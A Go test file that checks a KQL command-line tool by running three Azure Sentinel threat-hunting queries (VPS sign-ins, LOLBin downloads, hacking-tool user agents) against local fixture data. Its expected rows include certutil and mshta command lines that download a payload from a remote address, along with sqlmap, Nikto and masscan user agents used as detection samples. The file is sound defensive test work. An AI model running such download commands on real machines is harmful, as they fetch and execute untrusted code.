package main

import (
	"bufio"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// corpusQuery returns the text of one query of ../shared/corpus/queries.jsonl
// by its id, skipping the test when the corpus is absent.
func corpusQuery(t *testing.T, id string) string {
	t.Helper()
	f, err := os.Open(filepath.Join("..", "..", "..", "shared", "corpus", "queries.jsonl"))
	if os.IsNotExist(err) {
		t.Skip("../shared/corpus is absent; skipping the upstream query")
	}
	require.NoError(t, err)
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<24)
	for sc.Scan() {
		var q struct{ ID, Query string }
		require.NoError(t, json.Unmarshal(sc.Bytes(), &q))
		if q.ID == id {
			return q.Query
		}
	}
	require.NoError(t, sc.Err())
	t.Fatalf("query %s is not in the corpus", id)
	return ""
}

// TestUpstreamQueriesWithFeeds runs, unmodified, the Azure-Sentinel rules
// of the corpus that read threat feeds with externaldata, each from local
// files: the feed, the tables, and for UnusualUAHackTool a watchlist and a
// stand-in ASIM function. The tables in testdata/upstream-feeds are small
// and written so that each result can be worked out by hand; the wanted
// rows below are that working, not a recording of kql's output.
func TestUpstreamQueriesWithFeeds(t *testing.T) {
	const feeds = "https://raw.githubusercontent.com/Azure/Azure-Sentinel/master/Sample%20Data/Feeds/"
	dir := filepath.Join("testdata", "upstream-feeds")
	in := func(name string) string { return filepath.Join(dir, name) }
	cases := []struct {
		id   string
		args []string
		want string
	}{{
		// Successful sign-ins (the string ResultType == 0) from addresses in
		// the VPS networks: ann twice from 203.0.113.10, dee once from
		// 198.51.100.77. bob failed; 192.0.2.50 and 198.51.100.200 (past
		// the /25) are in no network, and return_unmatched is false.
		id: "Azure/Azure-Sentinel:Hunting Queries/SigninLogs/Signins-From-VPS-Providers.yaml",
		args: []string{"-t", in("SigninLogs.ndjson"),
			"--externaldata", feeds + "VPS_Networks.csv=" + in("VPS_Networks.csv")},
		want: "IPCustomEntity,AccountCustomEntity,timestamp,max_TimeGenerated\n" +
			"203.0.113.10,ann@contoso.com,2025-11-01T08:00:00Z,2025-11-01T09:30:00Z\n" +
			"198.51.100.77,dee@contoso.com,2025-11-02T12:00:00Z,2025-11-02T12:00:00Z\n",
	}, {
		// On 2022-08-07 (datetime(2022-08-07, 00:00) .. (…, 23:59)), a user
		// other than SYSTEM or a machine account, a LOLBin parent (the
		// feed's header line skipped) and http or ftp on the command line:
		// carol's mshta at 09:00 and alice's certutil at 10:00, in time order.
		id: "Azure/Azure-Sentinel:Hunting Queries/SecurityEvent/hunt_LOLBins.yaml",
		args: []string{"-t", in("SecurityEvent.ndjson"), "--externaldata",
			"https://raw.githubusercontent.com/sonnyakhere/LOLBAS_to_CSV/main/lolbas.csv=" + in("lolbas.csv")},
		want: "TimeGenerated,SubjectMachineName,SubjectUserName,ParentProcessName,Process,ProcessCommandLine\n" +
			`2022-08-07T09:00:00Z,WS03,carol,C:\Windows\System32\mshta.exe,powershell.exe,mshta.exe ftp://203.0.113.4/x.hta` + "\n" +
			`2022-08-07T10:00:00Z,WS01,alice,C:\Windows\System32\certutil.exe,certutil.exe,` +
			"certutil.exe -urlcache -split -f http://198.51.100.9/p.exe p.exe\n",
	}, {
		// Hacking tools from the feed (sqlmap, Nikto) and the watchlist
		// (masscan, whose search key is its Category), matched with has_any
		// by the ASIM function; Googlebot and curl are not hacking tools.
		id: "Azure/Azure-Sentinel:Detections/ASimWebSession/UnusualUAHackTool.yaml",
		args: []string{"-t", in("WebSessionLogs.ndjson"), "--functions", in("functions"),
			"--watchlists", in("watchlists"), "--watchlist-key", "UnusualUserAgents=Category",
			"--externaldata", feeds + "UnusualUserAgents.csv=" + in("UnusualUserAgents.csv")},
		want: "SrcIpAddr,Url,TimeGenerated,HttpUserAgent,SrcUsername\n" +
			"192.0.2.10,https://app.contoso.com/login,2025-11-03T10:00:00Z,sqlmap/1.7#stable (https://sqlmap.org),svc-web\n" +
			"192.0.2.12,https://app.contoso.com/admin,2025-11-03T10:02:00Z,Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001),\n" +
			"192.0.2.14,http://app.contoso.com:8080/,2025-11-03T10:04:00Z,masscan/1.3 (https://github.com/robertdavidgraham/masscan),\n",
	}}
	for _, c := range cases {
		t.Run(filepath.Base(c.id), func(t *testing.T) {
			query := corpusQuery(t, c.id)
			args := append(append([]string{"run", "-f", "csv"}, c.args...), "-q", query)
			r := runCLI(t, "", args...)
			require.Equal(t, 0, r.code, r.stderr)
			assert.Equal(t, c.want, r.stdout)
			assert.Empty(t, r.stderr)
		})
	}
}
